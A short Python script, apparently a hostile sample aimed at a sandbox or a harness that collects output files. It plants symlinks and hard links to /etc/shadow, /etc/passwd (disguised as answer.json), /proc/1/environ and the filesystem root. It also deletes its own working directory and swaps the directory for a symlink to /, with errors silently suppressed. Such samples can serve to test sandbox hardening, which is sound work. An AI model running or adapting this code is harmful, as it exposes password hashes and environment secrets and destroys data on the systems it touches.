"""Makes links out of its folder under every name that is brought back, and puts one in the place of the folder."""

import contextlib
import os
import shutil

here = os.getcwd()
for number, target in enumerate(("/etc/shadow", "/var/lab/own", "/proc/1/environ", "/", "../../..", "/shared")):
    with contextlib.suppress(OSError):
        os.symlink(target, f"out{number}")
        os.link(target, f"hard{number}")
os.symlink("/etc/passwd", "answer.json")
shutil.rmtree(here, ignore_errors=True)
with contextlib.suppress(OSError):
    os.rename(here, here + "-gone")
    os.symlink("/", here)
